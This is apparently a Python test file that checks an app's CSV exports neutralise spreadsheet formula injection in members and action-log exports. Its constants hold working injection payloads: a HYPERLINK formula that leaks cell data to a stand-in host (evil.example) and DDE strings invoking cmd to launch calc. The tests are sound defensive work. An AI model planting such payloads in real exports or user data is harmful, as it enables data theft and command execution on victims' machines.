"""Every CSV the app writes is spreadsheet-safe: no cell Excel or LibreOffice would take for a
formula (issue 17, finding 10). The files are read back with the csv module, as a spreadsheet
reads them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from conftest import cli_ok, here_for
from hypothesis import given
from hypothesis import strategies as st

from cpo_desktop.csv_out import FORMULA_STARTS, csv_bytes, is_plain_number, neutralise
from cpo_desktop.services import actions, register

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")'
SUM = "@SUM(A1:A9)"
CMD = "=cmd|' /C calc'!A0"
SUBTRACT = "-2+3+cmd|' /C calc'!A0"


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data  # UTF-8 with a BOM, CRLF rows, as before
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def live(cell: str) -> bool:
    """Would a spreadsheet take this cell for a formula?"""
    start = cell.lstrip(" ")
    return bool(start) and start[0] in FORMULA_STARTS and not is_plain_number(cell)


@pytest.mark.parametrize("value,written", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("   =1+2", "'   =1+2"), ("\uff1d1+2", "'\uff1d1+2"),
    ("-3", "-3"), ("+44", "+44"), ("-1.5", "-1.5"), ("  -3", "  -3"), ("1e5", "1e5"),
    ("Smith", "Smith"), ("", ""), (None, ""), (7, "7"), (-3, "-3"), ("O'Brien", "O'Brien"), ("'=1", "'=1"),
    ("+44 151 934 2000", "'+44 151 934 2000"), ("A=B", "A=B"),
])
def test_neutralise(value, written):
    assert neutralise(value) == written


@given(st.lists(st.lists(st.one_of(st.text(), st.integers(), st.none()), min_size=1, max_size=5), max_size=5))
def test_no_cell_read_back_is_a_formula(rows):
    back = read_back(csv_bytes(["A", "B"], rows))
    assert back[0] == ["A", "B"]
    for row, written in zip(rows, back[1:], strict=True):
        for value, cell in zip(row, written, strict=True):
            assert not live(cell), (value, cell)
            original = "" if value is None else str(value)
            assert cell in (original, "'" + original)  # nothing else is changed


def _plant(store) -> int:
    """Someone on the register whose every field is a formula; their id."""
    return register.add_person(store, register.PersonInput(
        first_name="Eve", surname=HYPERLINK, title="+1+1", email="eve@example.org", phone=SUBTRACT,
        organisation=CMD, job_title=SUM))


@pytest.mark.parametrize("public", [False, True], ids=["full", "public"])
def test_members_exports_write_no_live_formula(demo_store, tmp_path, capsys, public):
    _plant(demo_store)
    here = here_for(demo_store, capsys)
    target = tmp_path / "members.csv"
    cli_ok(here("members", "export", "--format", "csv", "-o", str(target), *(["--public"] if public else [])))
    rows = read_back(target.read_bytes())
    assert not [cell for row in rows for cell in row if live(cell)]
    [eve] = [dict(zip(rows[0], row)) for row in rows[1:] if row[1] == "Eve"]
    assert eve["Surname"] == "'" + HYPERLINK and eve["Job title"] == "'" + SUM and eve["Organisation"] == "'" + CMD
    assert eve["Title"] == "'+1+1"
    if not public:
        assert eve["Phone"] == "'" + SUBTRACT


def test_the_action_log_csv_writes_no_live_formula(demo_store, tmp_path, capsys):
    owner = _plant(demo_store)
    number = actions.add_action(demo_store, actions.ActionInput(description=HYPERLINK, owner_id=owner,
                                                                due_date=dt.date(2026, 12, 1)),
                                today=dt.date(2026, 11, 23))
    here = here_for(demo_store, capsys)
    target = tmp_path / "actions.csv"
    cli_ok(here("actions", "export", "--format", "csv", "-o", str(target)))
    rows = read_back(target.read_bytes())
    assert not [cell for row in rows for cell in row if live(cell)]
    [planted] = [row for row in rows if row[0] == f"A{number}"]
    assert planted[2] == "'" + HYPERLINK
